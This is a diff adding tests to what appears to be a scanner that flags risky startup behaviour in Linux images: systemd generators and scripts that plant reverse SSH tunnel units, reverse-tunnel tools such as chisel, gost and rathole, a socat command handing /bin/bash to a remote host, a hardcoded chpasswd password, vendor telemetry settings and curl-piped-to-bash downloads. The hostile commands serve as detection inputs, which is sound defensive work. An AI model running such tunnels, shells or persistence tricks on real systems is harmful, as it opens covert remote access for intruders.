@@ -520,3 +520,113 @@ test('hostile files', (t) => {
 	});
 	t.true(all.jobs.length > 0);
 });
+
+const generates = (text: string, path = 'usr/lib/systemd/system-generators/larkspur') => debian({[path]: {text: `#!/bin/sh\n${text}`, mode: 0o755}});
+const wants = 'mkdir -p "$1/multi-user.target.wants"\nln -s ../t.service "$1/multi-user.target.wants/"\n';
+const relay = '/usr/bin/ssh -NR 0:localhost:22 t@relay.larkspur-queue.com';
+
+test(
+	'a unit that a generator writes and wants',
+	finds,
+	'remoteAccess',
+	generates(`cat > "$1/t.service" <<EOF\n[Unit]\nAfter=network.target\n[Service]\nExecStart=-${relay}\nEOF\n${wants}`),
+	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
+);
+test(
+	'a unit that a generator writes line by line',
+	finds,
+	'remoteAccess',
+	generates(`echo "[Service]" > "$1/t.service"\necho "ExecStart=${relay}" >> "$1/t.service"\n${wants}`, 'etc/systemd/system-generators/larkspur'),
+	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
+);
+test(
+	'a unit that a generator writes and nothing starts',
+	finds,
+	'remoteAccess',
+	generates(`printf '[Service]\\nExecStart=${relay}\\n' > "$1/t.service"\n`),
+	[],
+);
+test(
+	'a unit that a script writes and enables',
+	finds,
+	'remoteAccess',
+	boots(`tee /etc/systemd/system/t.service >/dev/null <<EOF\n[Service]\nExecStart=${relay}\nEOF\nsystemctl enable --now t`),
+	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
+);
+test('what a generator does itself', finds, 'passwords', generates("echo 'admin:one' | chpasswd\n"), ['account admin fixed @ one']);
+
+for (const [command, expected] of [
+	['chisel client --auth a:b --keepalive 25s https://hub.larkspur-queue.com R:0:localhost:22', 'chisel https://hub.larkspur-queue.com'],
+	['chisel client 203.0.113.7:8080 R:22', 'chisel 203.0.113.7:8080'],
+	['chisel client 10.0.0.7:8080 R:22', undefined],
+	['chisel client hub.larkspur-queue.com 3000:localhost:3000', undefined],
+	['inlets-pro tcp client --url wss://exit.larkspur-queue.com:8123 --upstream localhost', 'inlets wss://exit.larkspur-queue.com:8123'],
+	['gost -L rtcp://:2222/:22 -F relay+tls://a:b@relay.larkspur-queue.com:443', 'gost relay.larkspur-queue.com:443'],
+	['gost -L :8080', undefined],
+	['npx -y localtunnel --port 22 --host https://lt.larkspur-queue.com', 'localtunnel https://lt.larkspur-queue.com'],
+	['socat TCP:relay.larkspur-queue.com:443 EXEC:/bin/bash', 'socat relay.larkspur-queue.com'],
+	['socat TCP-LISTEN:80,fork TCP:web.larkspur-queue.com:80', undefined],
+	['sshpass -p x ssh -NR 1:localhost:22 t@relay.larkspur-queue.com', 'ssh -R relay.larkspur-queue.com'],
+	['echo letmein1 | anydesk --set-password', 'AnyDesk'],
+] as const)
+	test(`finds: ${command}`, (t) => {
+		t.deepEqual(
+			found(boots(command), 'remoteAccess').map((one) => one.slice(0, one.indexOf(' @'))),
+			expected === undefined ? [] : [expected],
+		);
+	});
+test(
+	'a tunnel whose settings the command line names',
+	finds,
+	'remoteAccess',
+	boots('/opt/larkspur/rathole --client /opt/larkspur/link.toml', {'opt/larkspur/link.toml': '[client]\nremote_addr = "edge.larkspur-queue.com:2333"\n'}),
+	['rathole edge.larkspur-queue.com:2333 @ edge.larkspur-queue.com:2333'],
+);
+
+/** The usage reports of a product with settings of its own, which starts. */
+const reports = (path: string, text: string, more: Files = {}) =>
+	startup(enabled('larkspur.service', unit('ExecStart=/opt/larkspur/bin/server'), {[path]: text, ...more})).usageReports.map(
+		({setting, to, job}) => `${setting} ${to ?? '-'} ${job?.name ?? '-'}`,
+	);
+
+test('usage reports: in each notation, with the host beside them', (t) => {
+	const to = 'https://usage.larkspur-queue.com/v1';
+	const both = 'usage.larkspur-queue.com larkspur.service';
+	t.deepEqual(reports('opt/larkspur/a.yaml', `server:\n  telemetry: {enabled: yes, url: "${to}"}\n`), [`server.telemetry.enabled ${both}`]);
+	t.deepEqual(reports('opt/larkspur/a.json', `{"phoneHome": {"enabled": true, "url": "${to}"}}`), [`phoneHome.enabled ${both}`]);
+	t.deepEqual(reports('etc/larkspur/a.toml', `[usage-stats]\nenabled = true # by default\nendpoint = "${to}"\n`), [`usage-stats.enabled ${both}`]);
+	t.deepEqual(reports('etc/default/larkspur', `LARKSPUR_TELEMETRY_ENABLED=1\nexport LARKSPUR_TELEMETRY_URL="${to}"\n`), [`LARKSPUR_TELEMETRY_ENABLED ${both}`]);
+	t.deepEqual(reports('opt/larkspur/a.yaml', 'send_anonymous_usage: true\n'), ['send_anonymous_usage - larkspur.service']);
+	t.deepEqual(reports('opt/other/a.yaml', 'send_anonymous_usage: true\n'), []);
+	t.deepEqual(reports('opt/other/a.yaml', `telemetry: true\ntelemetry_url: ${to}\n`), ['telemetry usage.larkspur-queue.com -']);
+});
+
+test("usage reports: what is off, and what is the customer's own, is none", (t) => {
+	for (const text of [
+		'telemetry:\n  enabled: false\n',
+		'telemetry:\n  disabled: true\n',
+		'disable_telemetry: true\nno_usage_stats: true\n',
+		'telemetry_opt_out: true\n',
+		'telemetry:\n  enabled: true\n  endpoint: http://collector.monitoring.svc:4318\n',
+		'telemetry:\n  enabled: true\n  exporter: otlp\n',
+		'otel:\n  telemetry:\n    enabled: true\n',
+		'service:\n  telemetry:\n    metrics: {level: basic}\n',
+		'telemetry_interval: 1\nusage_data_port: 1\n',
+		'analytics:\n  enabled: true\n',
+	])
+		t.deepEqual(reports('opt/larkspur/a.yaml', text), [], text);
+	t.deepEqual(reports('opt/larkspur/tests/a.yaml', 'telemetry: true\n'), []);
+	t.deepEqual(
+		startup(enabled('larkspur.service', unit('Environment=DO_NOT_TRACK=1 LARKSPUR_TELEMETRY=1\nExecStart=/opt/larkspur/bin/server'))).usageReports,
+		[],
+	);
+});
+
+test('what is fetched is surely run where a shell has no other program', (t) => {
+	const sure = (command: string) => startup(boots(command)).fetches.map(({how, surely}) => `${how} ${surely === true}`);
+	t.deepEqual(sure('curl -fsS https://a.larkspur-queue.com/x | bash'), ['run true']);
+	t.deepEqual(sure('curl -fsS https://a.larkspur-queue.com/x | sudo bash -s -- --fast'), ['run true']);
+	t.deepEqual(sure('curl -fsSo /tmp/x https://a.larkspur-queue.com/x; sh /tmp/x'), ['run true']);
+	t.deepEqual(sure('curl -fsS https://a.larkspur-queue.com/x | python3 /opt/read.py'), ['run false']);
+	t.deepEqual(sure('curl -fsSo /tmp/x https://a.larkspur-queue.com/x; chmod 644 /tmp/x'), ['download false']);
+});
